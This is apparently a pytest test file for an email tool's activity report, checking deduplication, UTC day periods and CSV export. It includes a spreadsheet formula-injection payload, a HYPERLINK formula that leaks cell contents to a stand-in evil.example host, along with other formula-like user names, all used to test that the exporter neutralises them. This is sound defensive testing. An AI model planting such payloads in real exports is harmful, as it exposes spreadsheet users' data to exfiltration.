"""The activity report over the demo cache: once per email, per attributed user, per period."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest

from core.cli import main
from core.preview.activity import NOBODY, activity, csv_cell, period
from tests.preview.conftest import Workspace


def test_copies_of_one_email_count_once_and_drafts_not_at_all(workspace: Workspace) -> None:
    start, end = period(date(2026, 1, 1), date(2026, 12, 31))
    rows = activity(workspace.conn, workspace.account, start, end)
    total, distinct = workspace.conn.execute(
        "SELECT count(*), count(DISTINCT m.message_id) FROM messages m"
        " JOIN folders f ON f.id = m.folder_id WHERE m.logged = 1 AND f.role != 'drafts'"
    ).fetchone()
    assert distinct < total  # the Helios order form is in the Inbox and the Archive
    assert sum(r.emails for r in rows) == distinct
    assert [r.user for r in rows if r.user_id is None] == [NOBODY]
    assert rows == sorted(rows, key=lambda r: -r.emails)


def test_a_period_is_whole_utc_days(workspace: Workspace) -> None:
    first = workspace.conn.execute(
        "SELECT min(sort_date) FROM messages WHERE logged = 1"
    ).fetchone()[0]
    day = datetime.fromtimestamp(first, UTC).date()
    start, end = period(day, day)
    assert end - start == 86_400
    assert sum(r.emails for r in activity(workspace.conn, workspace.account, start, end)) >= 1
    before = period(day - timedelta(days=1), day - timedelta(days=1))
    assert sum(r.emails for r in activity(workspace.conn, workspace.account, *before)) == 0


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _evil_names(workspace: Workspace) -> None:
    """Users named as an attacker would name them (the directory's names are free text)."""
    conn = workspace.conn
    ids = [r[0] for r in conn.execute("SELECT id FROM directory_users ORDER BY position")]
    for user_id, name in zip(
        ids, [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"], strict=False
    ):
        conn.execute("UPDATE directory_users SET name = ? WHERE id = ?", (name, user_id))


@pytest.mark.parametrize(
    ("value", "cell"),
    [(EVIL, "'" + EVIL), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Mia = boss", "Mia = boss"), ("", ""), (12, 12), (-3, -3)],
)  # fmt: skip
def test_a_cell_that_starts_like_a_formula_is_neutralised(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_activity_csv_never_hands_a_spreadsheet_a_formula(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    _evil_names(workspace)
    monkeypatch.setenv("MAILSCOPE_HOME", str(workspace.path.parent / "home"))
    monkeypatch.setattr("core.store.db.default_path", lambda: workspace.path)
    out, err = io.StringIO(), io.StringIO()
    args = ["activity", "--from", "2026-01-01", "--to", "2026-12-31", "--csv", "--account", "demo"]
    assert main(args, out, err, io.StringIO()) == 0, err.getvalue()
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
